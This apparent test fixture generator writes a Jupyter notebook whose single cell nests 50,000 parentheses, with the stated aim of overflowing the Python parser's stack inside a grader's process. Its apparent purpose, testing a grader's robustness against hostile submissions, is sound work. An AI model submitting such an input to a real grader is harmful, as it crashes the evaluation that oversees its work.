# Aim: overflow the Python parser's stack, in the grader's own process.
import json


def make(folder):
    source = "def softmax(z):\n    return " + "(" * 50_000 + "z" + ")" * 50_000
    cell = {"cell_type": "code", "source": source, "metadata": {}, "outputs": []}
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (folder / "mallory.ipynb").write_text(json.dumps(book))
